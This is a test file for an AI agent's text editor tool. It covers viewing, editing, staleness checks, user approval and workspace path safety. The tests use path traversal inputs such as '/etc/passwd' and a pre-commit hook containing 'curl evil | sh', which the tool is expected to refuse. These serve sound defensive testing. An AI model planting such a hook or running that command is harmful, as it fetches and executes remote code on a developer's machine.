// The text editor tool on a real temp folder: view, create, str_replace, insert, path safety,
// staleness, line endings and malformed input.
import assert from 'node:assert/strict';
import { chmod, mkdtemp, readdir, readFile, rm, stat, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { EditorTool, MAX_VIEW_CHARACTERS } from '../../src/agent/tools/editor';
import type { ToolResult } from '../../src/agent/tools/tool';
import { ScriptedApprover, type ChangeAnswer } from '../support/approvers';
import { createTempRepo, type TempRepo } from '../support/tempRepo';
import { createToolContext, type TestToolContext } from '../support/toolContext';

const text = (result: ToolResult) => (typeof result.content === 'string' ? result.content : JSON.stringify(result.content));

describe('editor tool', () => {
  let repo: TempRepo | undefined;
  let editor: EditorTool;
  let context: TestToolContext;
  let approver: ScriptedApprover;

  /** A workspace with these files; edits are approved by the policy unless review answers are given. */
  async function setUp(files: Record<string, string>, answers?: ChangeAnswer[]) {
    repo = await createTempRepo(files, { git: false });
    approver = new ScriptedApprover(answers ?? []);
    context = await createToolContext(repo.root, approver, { approveAll: answers === undefined });
    editor = new EditorTool();
  }
  const root = () => repo!.root;
  const read = (path: string) => readFile(join(root(), path), 'utf8');
  const run = (input: unknown) => editor.run(input, context);

  afterEach(async () => {
    await repo?.remove();
    repo = undefined;
  });

  it('declares the text_editor_20250728 tool with its view limit', () => {
    assert.deepEqual(new EditorTool().definition(), { type: 'text_editor_20250728', name: 'str_replace_based_edit_tool', max_characters: MAX_VIEW_CHARACTERS });
  });

  describe('view', () => {
    it('views a file with line numbers, and a range of it', async () => {
      await setUp({ 'a.txt': 'one\ntwo\nthree\nfour\n' });
      assert.equal(text(await run({ command: 'view', path: 'a.txt' })), '     1\tone\n     2\ttwo\n     3\tthree\n     4\tfour');
      assert.equal(text(await run({ command: 'view', path: 'a.txt', view_range: [2, 3] })), '     2\ttwo\n     3\tthree');
      assert.equal(text(await run({ command: 'view', path: join(root(), 'a.txt'), view_range: [3, -1] })), '     3\tthree\n     4\tfour');
    });

    it('says how many lines a file has when a view range is out of bounds', async () => {
      await setUp({ 'a.txt': 'one\ntwo\n' });
      for (const range of [[1, 9], [5, -1], [0, 1], [2, 1]]) {
        const result = await run({ command: 'view', path: 'a.txt', view_range: range });
        assert.equal(result.isError, true, JSON.stringify(range));
        assert.match(text(result), /out of bounds: a\.txt has 2 lines/);
      }
      assert.match(text(await run({ command: 'view', path: 'a.txt', view_range: [1] })), /`view_range` must be an array of two whole numbers/);
    });

    it('cuts a long file at max_characters and says which range shows the rest', async () => {
      const lines = Array.from({ length: 3000 }, (_, i) => `const value${i} = ${i};`);
      await setUp({ 'big.ts': lines.join('\n') + '\n' });
      const shown = text(await run({ command: 'view', path: 'big.ts' }));
      const note = new RegExp(`\\n\\[Output cut at ${MAX_VIEW_CHARACTERS} characters after line (\\d+); view the rest with view_range \\[(\\d+), 3000\\]\\.\\]$`).exec(shown);
      assert.ok(note, shown.slice(-200));
      const lastShown = Number(note[1]);
      assert.equal(Number(note[2]), lastShown + 1);
      assert.ok(shown.length - note[0].length <= MAX_VIEW_CHARACTERS);
      assert.ok(shown.includes(`${String(lastShown).padStart(6)}\tconst value${lastShown - 1} = ${lastShown - 1};\n[Output cut`));
      const rest = text(await run({ command: 'view', path: 'big.ts', view_range: [lastShown + 1, -1] }));
      assert.ok(rest.startsWith(`${String(lastShown + 1).padStart(6)}\tconst value${lastShown} =`));
    });

    it('shows the start of a line longer than the limit instead of nothing', async () => {
      await setUp({ 'min.js': 'x'.repeat(MAX_VIEW_CHARACTERS * 2) + '\nnext\n' });
      const shown = text(await run({ command: 'view', path: 'min.js' }));
      assert.match(shown, /^ {5}1\txxxx/);
      assert.ok(shown.endsWith(`[Line 1 is longer than ${MAX_VIEW_CHARACTERS} characters and was cut; use a shell command (e.g. cut -c or grep -o) to read the rest of it. Lines 2-2 follow: view them with view_range [2, 2].]`), shown.slice(-300));
    });

    it('lists a folder two levels deep without hidden entries or node_modules', async () => {
      await setUp({ 'src/lib/deep/x.ts': '', 'src/a.ts': '', '.hidden': '', '.config/x': '', 'node_modules/p/index.js': '', 'README.md': '' });
      const [header, ...entries] = text(await run({ command: 'view', path: '.' })).split('\n');
      assert.match(header!, /up to 2 levels deep/);
      assert.deepEqual(entries, ['README.md', 'src/', 'src/a.ts', 'src/lib/']);
      assert.deepEqual(text(await run({ command: 'view', path: 'src' })).split('\n').slice(1), ['a.ts', 'lib/', 'lib/deep/']);
    });

    it('says when a file does not exist, and refuses a binary file', async () => {
      await setUp({ 'img.bin': 'PNG\u0000\u0001data' });
      assert.match(text(await run({ command: 'view', path: 'missing.ts' })), /missing\.ts does not exist/);
      const binary = await run({ command: 'view', path: 'img.bin' });
      assert.equal(binary.isError, true);
      assert.match(text(binary), /looks like a binary file/);
    });
  });

  describe('create', () => {
    it('creates a new file, making its folders', async () => {
      await setUp({});
      const result = await run({ command: 'create', path: 'src/new/file.ts', file_text: 'export const x = 1;\n' });
      assert.equal(result.isError, false, text(result));
      assert.equal(text(result), 'Created src/new/file.ts: 1 hunk accepted.');
      assert.equal(await read('src/new/file.ts'), 'export const x = 1;\n');
    });

    it('refuses to create over a file it has not read, and allows it after a view', async () => {
      await setUp({ 'a.txt': 'keep me\n' });
      const result = await run({ command: 'create', path: 'a.txt', file_text: 'gone' });
      assert.equal(result.isError, true);
      assert.match(text(result), /a\.txt already exists and you have not viewed it in this session\. View it first/);
      assert.equal(await read('a.txt'), 'keep me\n');
      await run({ command: 'view', path: 'a.txt' });
      assert.equal((await run({ command: 'create', path: 'a.txt', file_text: 'replaced\n' })).isError, false);
      assert.equal(await read('a.txt'), 'replaced\n');
    });

    it('refuses to create over a file that changed since it was viewed', async () => {
      await setUp({ 'a.txt': 'v1\n' });
      await run({ command: 'view', path: 'a.txt' });
      await writeFile(join(root(), 'a.txt'), 'v2 from the user\n');
      assert.match(text(await run({ command: 'create', path: 'a.txt', file_text: 'agent\n' })), /changed on disk or in an editor since you last viewed it/);
      assert.equal(await read('a.txt'), 'v2 from the user\n');
    });

    it('refuses to create a file where a folder is', async () => {
      await setUp({ 'src/a.ts': '' });
      assert.match(text(await run({ command: 'create', path: 'src', file_text: 'x' })), /src is a folder/);
    });
  });

  describe('str_replace', () => {
    it('replaces text that matches exactly once and shows the edited region', async () => {
      await setUp({ 'a.js': 'const a = 1;\nconst b = 2;\nconst c = 3;\n' });
      const result = await run({ command: 'str_replace', path: 'a.js', old_str: 'const b = 2;', new_str: 'const b = 20;' });
      assert.equal(result.isError, false, text(result));
      assert.equal(await read('a.js'), 'const a = 1;\nconst b = 20;\nconst c = 3;\n');
      assert.equal(text(result), 'Edited a.js: 1 hunk accepted.\nLines 1-3 of a.js now read:\n     1\tconst a = 1;\n     2\tconst b = 20;\n     3\tconst c = 3;');
    });

    it('deletes old_str when new_str is left out', async () => {
      await setUp({ 'a.js': 'keep();\ndrop();\nkeep2();\n' });
      assert.equal((await run({ command: 'str_replace', path: 'a.js', old_str: 'drop();\n' })).isError, false);
      assert.equal(await read('a.js'), 'keep();\nkeep2();\n');
    });

    it('refuses a str_replace whose old_str matches nowhere, with a whitespace hint', async () => {
      await setUp({ 'a.js': 'if (x) {\n    go();\n}\n' });
      const result = await run({ command: 'str_replace', path: 'a.js', old_str: 'if (x) {\n  go();', new_str: 'y' });
      assert.equal(result.isError, true);
      assert.match(text(result), /^No match for old_str in a\.js\. It would match if spaces, tabs and line breaks were ignored/);
      assert.match(text(await run({ command: 'str_replace', path: 'a.js', old_str: 'stop();', new_str: 'y' })), /^No match for old_str in a\.js\. View the file and copy the text exactly\.$/);
      assert.equal(await read('a.js'), 'if (x) {\n    go();\n}\n');
    });

    it('refuses a str_replace whose old_str matches twice, naming the lines', async () => {
      await setUp({ 'a.js': 'x();\ny();\nx();\n' });
      const result = await run({ command: 'str_replace', path: 'a.js', old_str: 'x();', new_str: 'z();' });
      assert.equal(result.isError, true);
      assert.equal(text(result), 'old_str matches 2 times in a.js (lines 1, 3); include more surrounding lines to make it unique.');
      assert.equal(await read('a.js'), 'x();\ny();\nx();\n');
    });

    it('keeps the final newline when the edit reaches the end of the file', async () => {
      await setUp({ 'a.txt': 'a\nb\nc\n' });
      await run({ command: 'str_replace', path: 'a.txt', old_str: 'b\nc\n', new_str: 'B' });
      assert.equal(await read('a.txt'), 'a\nB\n');
      await run({ command: 'str_replace', path: 'a.txt', old_str: 'B\n', new_str: '' });
      assert.equal(await read('a.txt'), 'a\n');
    });
  });

  describe('insert', () => {
    it('inserts at the top and after the last line', async () => {
      await setUp({ 'a.txt': 'b\nc\n' });
      const top = await run({ command: 'insert', path: 'a.txt', insert_line: 0, insert_text: 'a' });
      assert.equal(top.isError, false, text(top));
      assert.match(text(top), /Lines 1-3 of a\.txt now read:\n {5}1\ta\n/);
      assert.equal((await run({ command: 'insert', path: 'a.txt', insert_line: 3, insert_text: 'd\n' })).isError, false);
      assert.equal(await read('a.txt'), 'a\nb\nc\nd\n');
    });

    it('inserts after a last line without a newline, keeping the file without one', async () => {
      await setUp({ 'a.txt': 'a\nb' });
      await run({ command: 'insert', path: 'a.txt', insert_line: 2, insert_text: 'c\n' });
      assert.equal(await read('a.txt'), 'a\nb\nc');
      await run({ command: 'insert', path: 'a.txt', insert_line: 1, new_str: 'between' });
      assert.equal(await read('a.txt'), 'a\nbetween\nb\nc');
    });

    it('refuses an insert line out of range', async () => {
      await setUp({ 'a.txt': 'b\nc\n' });
      for (const line of [5, -1]) {
        const result = await run({ command: 'insert', path: 'a.txt', insert_line: line, insert_text: 'x' });
        assert.equal(result.isError, true);
        assert.equal(text(result), `insert_line ${line} is out of range: a.txt has 2 lines, so use 0 to 2.`);
      }
      assert.equal(await read('a.txt'), 'b\nc\n');
    });
  });

  describe('paths', () => {
    it('refuses paths with .. and absolute paths outside the workspace', async () => {
      await setUp({ 'a.txt': 'a\n' });
      for (const path of ['../outside.txt', 'sub/../../outside.txt', '/etc/passwd']) {
        const result = await run({ command: 'view', path });
        assert.equal(result.isError, true, path);
        assert.equal(text(result), `${path} is outside the workspace ${context.workspace.root}; only files inside the workspace can be used.`);
      }
      assert.match(text(await run({ command: 'create', path: '../escape.txt', file_text: 'x' })), /outside the workspace/);
      assert.deepEqual(await readdir(join(root(), '..')).then((names) => names.includes('escape.txt')), false);
    });

    it('refuses a symlink inside the workspace that points outside, for reading and writing', async () => {
      const outside = await mkdtemp(join(tmpdir(), 'loupe-outside-'));
      try {
        await writeFile(join(outside, 'secret.txt'), 'secret\n');
        await setUp({ 'a.txt': 'a\n' });
        await symlink(join(outside, 'secret.txt'), join(root(), 'link.txt'));
        await symlink(outside, join(root(), 'linkdir'));
        await symlink(join(outside, 'not-yet.txt'), join(root(), 'dangling.txt'));
        assert.match(text(await run({ command: 'view', path: 'link.txt' })), /link\.txt leads outside the workspace .* through a symbolic link/);
        assert.match(text(await run({ command: 'str_replace', path: 'link.txt', old_str: 'secret', new_str: 'x' })), /outside the workspace/);
        assert.match(text(await run({ command: 'insert', path: 'linkdir/secret.txt', insert_line: 0, insert_text: 'x' })), /outside the workspace/);
        assert.match(text(await run({ command: 'create', path: 'linkdir/new.txt', file_text: 'x' })), /outside the workspace/);
        assert.match(text(await run({ command: 'create', path: 'dangling.txt', file_text: 'x' })), /outside the workspace/);
        assert.deepEqual((await readdir(outside)).sort(), ['secret.txt']);
        assert.equal(await readFile(join(outside, 'secret.txt'), 'utf8'), 'secret\n');
      } finally {
        await rm(outside, { recursive: true, force: true });
      }
    });

    it('refuses an empty path', async () => {
      await setUp({});
      assert.match(text(await run({ command: 'view', path: '' })), /The path is empty/);
    });
  });

  describe('staleness', () => {
    it('refuses to edit a file changed on disk since it was viewed, until it is viewed again', async () => {
      await setUp({ 'a.txt': 'one\ntwo\n' });
      await run({ command: 'view', path: 'a.txt' });
      await writeFile(join(root(), 'a.txt'), 'one\ntwo\nthree (the user typed this)\n');
      for (let attempt = 0; attempt < 2; attempt++) {
        const result = await run({ command: 'str_replace', path: 'a.txt', old_str: 'two', new_str: '2' });
        assert.equal(result.isError, true);
        assert.match(text(result), /a\.txt changed on disk or in an editor since you last read it\. View it again/);
      }
      assert.match(text(await run({ command: 'insert', path: 'a.txt', insert_line: 0, insert_text: 'x' })), /changed on disk or in an editor/);
      assert.equal(await read('a.txt'), 'one\ntwo\nthree (the user typed this)\n');
      await run({ command: 'view', path: 'a.txt' });
      assert.equal((await run({ command: 'str_replace', path: 'a.txt', old_str: 'two', new_str: '2' })).isError, false);
      assert.equal(await read('a.txt'), 'one\n2\nthree (the user typed this)\n');
    });

    it('knows its own writes: edits in a row need no view in between', async () => {
      await setUp({ 'a.txt': 'one\n' });
      await run({ command: 'view', path: 'a.txt' });
      await run({ command: 'str_replace', path: 'a.txt', old_str: 'one', new_str: 'two' });
      assert.equal((await run({ command: 'str_replace', path: 'a.txt', old_str: 'two', new_str: 'three' })).isError, false);
      assert.equal(await read('a.txt'), 'three\n');
    });

    it('writes nothing when the file changes while the change waits for approval', async () => {
      await setUp({ 'a.txt': 'one\n' }, [
        async (change) => {
          await writeFile(change.path, 'one\nuser line\n');
          return { kind: 'accept' };
        },
      ]);
      await run({ command: 'view', path: 'a.txt' });
      const result = await run({ command: 'str_replace', path: 'a.txt', old_str: 'one', new_str: 'ONE' });
      assert.equal(result.isError, true);
      assert.match(text(result), /a\.txt changed on disk or in an editor while the change waited for approval; nothing was written/);
      assert.equal(await read('a.txt'), 'one\nuser line\n');
      assert.match(text(await run({ command: 'str_replace', path: 'a.txt', old_str: 'user', new_str: 'x' })), /changed on disk or in an editor since you last read it/);
    });
  });

  describe('review', () => {
    it('tells the model when the user rejects an edit, and leaves the file untouched', async () => {
      await setUp({ 'a.txt': 'one\n' }, [{ kind: 'reject', reason: 'use uppercase' }]);
      const result = await run({ command: 'str_replace', path: 'a.txt', old_str: 'one', new_str: 'uno' });
      assert.equal(result.isError, true);
      assert.equal(text(result), 'The user rejected the change to a.txt; the file was not changed. Their reason: use uppercase');
      assert.equal(await read('a.txt'), 'one\n');
      assert.equal(approver.changes[0]!.relativePath, 'a.txt');
    });

    it('reports a partial acceptance without a snippet of text that is not in the file', async () => {
      const lines = Array.from({ length: 20 }, (_, i) => `line ${i + 1}`);
      await setUp({ 'a.txt': lines.join('\n') + '\n' }, [{ kind: 'partial', acceptedHunks: [1] }]);
      const result = await run({ command: 'str_replace', path: 'a.txt', old_str: lines.slice(1, 19).join('\n'), new_str: ['line TWO', ...lines.slice(2, 18), 'line NINETEEN'].join('\n') });
      assert.equal(result.isError, false, text(result));
      assert.match(text(result), /accepted hunk 2 and rejected hunk 1 \(of 2/);
      assert.doesNotMatch(text(result), /now read/);
      assert.equal(await read('a.txt'), lines.join('\n').replace('line 19', 'line NINETEEN') + '\n');
    });
  });

  describe('files on disk', () => {
    it('writes atomically: no temp file left behind, and the file mode kept', async () => {
      await setUp({ 'run.sh': '#!/bin/sh\necho hi\n' });
      await chmod(join(root(), 'run.sh'), 0o755);
      await run({ command: 'str_replace', path: 'run.sh', old_str: 'echo hi', new_str: 'echo hello' });
      assert.equal(await read('run.sh'), '#!/bin/sh\necho hello\n');
      assert.equal((await stat(join(root(), 'run.sh'))).mode & 0o777, 0o755);
      assert.deepEqual(await readdir(root()), ['run.sh']);
    });

    it('keeps CRLF line endings when the model sends LF text', async () => {
      await setUp({ 'win.txt': 'alpha\r\nbeta\r\ngamma\r\n' });
      const view = text(await run({ command: 'view', path: 'win.txt' }));
      assert.equal(view, '     1\talpha\n     2\tbeta\n     3\tgamma');
      const replaced = await run({ command: 'str_replace', path: 'win.txt', old_str: 'alpha\nbeta', new_str: 'alpha\nBETA\nextra' });
      assert.equal(replaced.isError, false, text(replaced));
      await run({ command: 'insert', path: 'win.txt', insert_line: 0, insert_text: 'top' });
      assert.equal(await read('win.txt'), 'top\r\nalpha\r\nBETA\r\nextra\r\ngamma\r\n');
      await run({ command: 'create', path: 'win.txt', file_text: 'whole\nnew\n' });
      assert.equal(await read('win.txt'), 'whole\r\nnew\r\n');
    });

    it('leaves the endings of untouched lines alone in a file that mixes CRLF and LF', async () => {
      await setUp({ 'mixed.txt': 'a\r\nb\nc\r\nd\n' });
      await run({ command: 'str_replace', path: 'mixed.txt', old_str: 'c\nd', new_str: 'C\nD\nE' });
      assert.equal(await read('mixed.txt'), 'a\r\nb\nC\r\nD\r\nE\n');
    });
  });

  describe('malformed input', () => {
    it('answers malformed input with an error that names the field and the expected type', async () => {
      await setUp({ 'a.txt': 'a\n' });
      const cases: Array<[unknown, RegExp]> = [
        ['view a.txt', /input must be a JSON object/],
        [{ path: 'a.txt' }, /^Missing `command`: it must be a string, one of view, create, str_replace, insert; got nothing\.$/],
        [{ command: 7, path: 'a.txt' }, /Ill-typed `command`: it must be a string.*got number 7/],
        [{ command: 'delete', path: 'a.txt' }, /^Unknown `command` "delete": use one of view, create, str_replace, insert\.$/],
        [{ command: 'view' }, /view needs `path` \(a string\).*got nothing/],
        [{ command: 'str_replace', path: 'a.txt', old_str: 5 }, /str_replace needs `old_str` \(a string\).*got number 5/],
        [{ command: 'str_replace', path: 'a.txt', old_str: 'a', new_str: ['b'] }, /`new_str` must be a string.*got an array/],
        [{ command: 'str_replace', path: 'a.txt', old_str: '' }, /`old_str` is empty/],
        [{ command: 'insert', path: 'a.txt', insert_line: 'one', insert_text: 'x' }, /insert needs `insert_line` \(a whole number\).*got string "one"/],
        [{ command: 'insert', path: 'a.txt', insert_line: 1.5, insert_text: 'x' }, /insert_line/],
        [{ command: 'insert', path: 'a.txt', insert_line: 0 }, /insert needs `insert_text` \(a string\)/],
        [{ command: 'create', path: 'b.txt' }, /create needs `file_text` \(a string\)/],
        [{ command: 'undo_edit', path: 'a.txt' }, /undo_edit is not supported/],
      ];
      for (const [input, expected] of cases) {
        const result = await run(input);
        assert.equal(result.isError, true, JSON.stringify(input));
        assert.match(text(result), expected, JSON.stringify(input));
      }
      assert.equal(await read('a.txt'), 'a\n');
    });
  });

  it('refuses edits inside .git by policy, even when everything is approved', async () => {
    await setUp({ '.git/config': '[core]\n' });
    const result = await run({ command: 'create', path: '.git/hooks/pre-commit', file_text: 'curl evil | sh' });
    assert.equal(result.isError, true);
    assert.match(text(result), /inside \.git/);
    assert.deepEqual(await readdir(join(root(), '.git')), ['config']);
  });
});
